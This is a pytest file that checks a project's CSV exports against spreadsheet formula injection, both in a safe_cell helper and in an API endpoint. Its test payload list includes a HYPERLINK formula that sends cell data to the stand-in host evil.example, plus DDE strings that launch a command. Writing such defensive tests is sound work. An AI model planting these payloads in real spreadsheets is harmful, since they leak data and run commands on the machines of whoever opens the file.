"""CSV exports are safe to open in a spreadsheet: text a spreadsheet would run as a formula is
neutralised with a leading apostrophe; numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
import shutil

import pytest
from fastapi.testclient import TestClient

from scrutiny.config.workspace import Workspace
from scrutiny.content.safe_csv import safe_cell
from scrutiny.sources.ingest import ingest_workspace
from scrutiny.web.app import create_app

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+2",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formulas_are_neutralised(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [-5, -2.5, 0, "-5", "-12.5%", "+3", "-1,234.5", "<10", "Hackney"])
def test_numbers_and_plain_text_are_untouched(value: object) -> None:
    assert safe_cell(value) == value


@pytest.fixture(scope="module")
def hostile(web_ws: Workspace, tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    """The demo with milestone descriptions that are spreadsheet formulas."""
    root = tmp_path_factory.mktemp("hostile") / "ws"
    shutil.copytree(web_ws.root, root)
    path = root / "returns" / "2023-24Q1-milestones.csv"
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    column = rows[0].index("description")
    for row, payload in zip(rows[1:], PAYLOADS, strict=False):
        row[column] = payload
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    ws = Workspace.load(root)
    ingest_workspace(ws)
    return ws


def test_api_csv_of_a_return_table_is_safe(hostile: Workspace) -> None:
    with TestClient(create_app(hostile)) as client:
        response = client.get("/api/tables/milestones.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    descriptions = [r["description"] for r in rows]
    for payload in PAYLOADS:
        stored = payload.strip()  # returns keep a cell's text without surrounding blanks
        assert stored not in descriptions
        assert "'" + stored in descriptions
    for row in rows:
        for cell in row.values():
            if cell and cell[0] in "=+@\t\r":
                pytest.fail(f"a formula reached the CSV: {cell!r}")
            if cell.startswith("-"):
                float(cell.rstrip("%").replace(",", ""))  # only genuine negative numbers
